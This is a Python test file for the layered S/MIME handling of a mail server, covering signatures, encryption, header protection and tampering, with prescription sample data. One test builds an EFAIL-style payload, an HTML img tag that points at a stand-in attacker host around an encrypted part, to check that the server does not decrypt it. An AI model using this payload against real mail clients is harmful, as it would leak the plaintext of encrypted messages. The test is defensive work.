"""Messages of several layers: what opens, what stays shut, and what the verdicts are."""

from __future__ import annotations

from pathlib import Path

import pytest

from crypto.errors import CryptoError, IntegrityError, KeyMissing
from crypto.smime.envelope import encrypted_entity
from crypto.smime.header import HIDDEN_SUBJECT, outer, protected_entity
from crypto.smime.sign import message, signed_entity
from crypto.smime.signed_data import Kind
from crypto.smime.verdict import Status, SubReason
from server.mail import headers
from server.mailbox.layers import open_layers
from server.mailbox.understand import understand
from tests.signers import DOCTOR, NOON, anchors, signer
from tests.unit.crypto.test_smime_envelope import openssl, recipient

ENTITY = b"Content-Type: text/plain; charset=utf-8\r\n\r\nAmoxicilline 1 g, matin et soir.\r\n"
HEADERS = {
    "From": f"Aline MARTIN <{DOCTOR}>",
    "To": "pharmacie@mss.example.test",
    "Subject": "Ordonnance de Zoé",
    "Date": "Mon, 23 Nov 2026 13:00:00 +0100",
    "Keywords": "antibiotique",
}
HEADER = {name: value for name, value in HEADERS.items() if name != "Keywords"}


def subject(data: bytes) -> str:
    return headers.decode(headers.first(data.partition(b"\r\n\r\n")[0] + b"\r\n", "subject") or "")


@pytest.mark.parametrize("kind", list(Kind))
def test_signed_then_encrypted(kind: Kind) -> None:
    reader = recipient("p256")
    inside = signed_entity(protected_entity(ENTITY, HEADERS, encrypted=True), signer("doctor"), NOON, kind=kind)
    data = message(outer(HEADERS), encrypted_entity(inside, [reader.certificate]))
    assert subject(data) == HIDDEN_SUBJECT
    assert b"antibiotique" not in data
    assert understand(data, anchors(), NOON).verdict.status is Status.NONE
    layers = open_layers(data, [reader], anchors(), NOON)
    (verdict,) = layers.verdicts
    assert (verdict.status, verdict.covers, layers.encrypted) == (Status.PASSED, "whole", True)
    assert verdict.headers == ("from", "to", "subject", "date", "keywords")
    assert subject(layers.message) == HEADERS["Subject"]
    assert headers.every(layers.message, "from") == [HEADERS["From"]]
    assert layers.message.endswith(ENTITY.partition(b"\r\n\r\n")[2])
    with pytest.raises(KeyMissing):
        open_layers(data, [recipient("rsa")], anchors(), NOON)


@pytest.mark.parametrize("outermost", list(Kind))
def test_triple_wrapping(outermost: Kind) -> None:
    reader = recipient("rsa")
    inner = signed_entity(ENTITY, signer("doctor"), NOON)
    data = message(
        HEADER, signed_entity(encrypted_entity(inner, [reader.certificate]), signer("doctor-rsa"), NOON, kind=outermost)
    )
    layers = open_layers(data, [reader], anchors(), NOON)
    assert [verdict.status for verdict in layers.verdicts] == [Status.PASSED, Status.PASSED]
    assert layers.message.endswith(ENTITY)


def test_outer_and_inner_signers_differ() -> None:
    """Who stripped the doctor's outer signature and put another one: the layers tell."""
    reader = recipient("rsa")
    inner = signed_entity(ENTITY, signer("doctor"), NOON)
    sealed = encrypted_entity(inner, [reader.certificate])
    data = message(HEADER, signed_entity(sealed, signer("mallory"), NOON))
    layers = open_layers(data, [reader], anchors(), NOON)
    assert [one.reason for one in layers.verdicts] == [SubReason.OTHER_SENDER, SubReason.VALID]


def test_not_encrypted_at_all() -> None:
    data = message(HEADER, signed_entity(protected_entity(ENTITY, HEADER), signer("doctor"), NOON))
    layers = open_layers(data, [], anchors(), NOON)
    assert ([one.status for one in layers.verdicts], layers.encrypted) == ([Status.PASSED], False)
    assert layers.message.endswith(ENTITY.partition(b"\r\n\r\n")[2])
    plain = message(HEADER, ENTITY)
    assert open_layers(plain, [], anchors(), NOON).message == plain


def test_header_changed_outside_of_what_is_encrypted() -> None:
    reader = recipient("p256")
    inside = signed_entity(protected_entity(ENTITY, HEADER, encrypted=True), signer("doctor"), NOON)
    changed = {**outer(HEADER), "To": "autre@mss.example.test"}
    data = message(changed, encrypted_entity(inside, [reader.certificate]))
    (verdict,) = open_layers(data, [reader], anchors(), NOON).verdicts
    assert verdict.reason is SubReason.HEADER_CHANGED


def cbc(place: Path, entity: bytes) -> bytes:
    recipient("rsa").save(place, "one")
    (place / "entity").write_bytes(entity)
    done = openssl(
        place, "-encrypt", "-binary", "-in", "entity", "-outform", "SMIME", "-out", "message", "-aes-256-cbc",
        "-crlfeol", "one.pem",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    entity = (place / "message").read_bytes().partition(b"MIME-Version: 1.0")[2].lstrip()
    return message(HEADER, entity)


def test_cbc_opens_with_a_signature_inside_alone(tmp_path: Path) -> None:
    reader = recipient("rsa")
    signed = signed_entity(ENTITY, signer("doctor"), NOON)
    layers = open_layers(cbc(tmp_path, signed), [reader], anchors(), NOON)
    assert layers.message.endswith(ENTITY)
    assert [one.status for one in layers.verdicts] == [Status.PASSED]
    part = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n--b\r\n' + signed + b"\r\n--b--\r\n"
    for inside in (
        ENTITY,
        signed_entity(ENTITY, signer("mallory"), NOON),
        signed_entity(ENTITY, signer("stranger"), NOON),
        signed.replace(b"1 g", b"9 g"),
        part,
    ):
        with pytest.raises(IntegrityError):
            open_layers(cbc(tmp_path, inside), [reader], anchors(), NOON)


def test_an_encrypted_part_among_others_stays_shut() -> None:
    """EFAIL's direct exfiltration, with authenticated encryption even: it is no longer the whole body."""
    reader = recipient("p256")
    sealed = encrypted_entity(ENTITY, [reader.certificate])
    parts = (
        b'Content-Type: text/html\r\n\r\n<img src="http://evil.example.test/',
        sealed,
        b'Content-Type: text/html\r\n\r\n">',
    )
    mixed = b'Content-Type: multipart/mixed; boundary="b"\r\n\r\n'
    mixed += b"".join(b"--b\r\n" + part + b"\r\n" for part in parts) + b"--b--\r\n"
    for data in (
        message(HEADER, mixed),
        message(HEADER, signed_entity(mixed, signer("doctor"), NOON)),
        message(HEADER, b"Content-Type: message/rfc822\r\n\r\n" + message(HEADER, sealed)),
    ):
        layers = open_layers(data, [reader], anchors(), NOON)
        assert not layers.encrypted
        assert b"Amoxicilline" not in layers.message


def test_more_layers_than_anybody_writes() -> None:
    reader = recipient("p256")
    entity = ENTITY
    for _ in range(5):
        entity = encrypted_entity(entity, [reader.certificate])
    with pytest.raises(CryptoError, match="too many layers"):
        open_layers(message(HEADER, entity), [reader], anchors(), NOON)
